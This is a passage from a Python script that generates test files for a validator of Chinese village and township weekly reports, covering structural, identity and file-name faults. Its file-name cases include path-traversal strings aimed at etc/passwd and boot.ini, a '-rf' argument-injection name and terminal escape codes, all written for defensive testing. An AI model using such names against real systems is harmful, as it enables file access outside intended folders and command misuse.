        "file.duplicate_column")
    mrows = township_report(c.next_township(), "合并镇", n=4)
    add("数据行合并单元格.xlsx", xlsx([XSheet("乡镇周报", mrows, merges=["B4:B6", "C4:C7", "D5:E6"])]), "structure")
    add("三本账缺两张表.xlsx", xlsx([XSheet("计划进度账", ledger_plan(c.next_village()))]), "structure",
        "file.missing_sheet")
    add("不是报表.csv", "这不是报表，只是一段说明文字。\r\n请查收。\r\n".encode(), "structure", "file.not_a_form")

    # -- wrong week or unit (known units of the register, each used once per form)
    add("周次错了.xlsx", xlsx(village_report("411622107202", "西营村", week="2026年第46周")), "identity",
        "week.mismatch")
    add("代码与名称不符.xlsx", xlsx(village_report("411622107203", "小集村")), "identity", "unit.name_mismatch")
    add("名录中没有的代码.csv", to_csv(village_report("411622107999", "不存在村")), "identity", "unit.unknown")
    add("代码位数不对.csv", to_csv(village_report("41162210720", "后楼村")), "identity", "unit_code.bad_length",
        "unit.level_mismatch")
    add("外县的县级周报.xlsx", xlsx(county_report("419999", "某外县")), "identity", "unit.unknown")

    # -- file names (content: a small report of a unit that is not in the register, one each)
    def named(name, *expect):
        add(name, to_csv(village_report(c.next_village(), "文件名村")), "name", "file_name.unsafe",
            "file_name.not_utf8", *expect)

    named("焦东村..周报.csv")
    named("％2E％2E％2F％2E％2E％2Fetc％2Fpasswd.csv")
    named("%2e%2e%2fboot.ini.csv")
    named("西华县\\逍遥镇\\..\\周报.csv")
    named("-rf 周报.csv")
    named("--help.csv")
    named("很长的文件名" * 13 + ".csv")  # 82 characters, 238 bytes (NAME_MAX is 255 bytes)
    named("周报\n第47周\t\x1b[31m红字.csv")
    named("回车\r结尾.csv")
    named("a:b?c*<d>|e.csv")
    named("西华县周报".encode("gbk") + b".csv")
    named("周報".encode("big5") + b".csv")
    named(b"\xff\xfe\xfd\x80.csv")
    add("没有扩展名", xlsx(village_report(c.next_village(), "无扩展名村")), "name", "unit.unknown")

    names = [i.display for i in items]
    assert len(set(names)) == len(names), "corpus names must be distinct"
    digests = [hashlib.sha256(i.data).hexdigest() for i in items]
    assert len(set(digests)) == len(digests), "corpus contents must be distinct (one submission each)"
    return items


def write_corpus(folder: Path | str, items: list[Item] | None = None) -> list[Item]:
    """Write the corpus into `folder` (bytes names through os.fsencode-free bytes paths)."""
    items = corpus() if items is None else items
    base = os.fsencode(str(folder))
    os.makedirs(base, exist_ok=True)
    for it in items:
        name = it.name if isinstance(it.name, bytes) else it.name.encode("utf-8")
        with open(os.path.join(base, name), "wb") as f:
            f.write(it.data)
    return items


if __name__ == "__main__":  # pragma: no cover
    out = Path(sys.argv[1] if len(sys.argv) > 1 else "corpus-out")
    written = write_corpus(out)
    print(f"{len(written)} files in {out}")
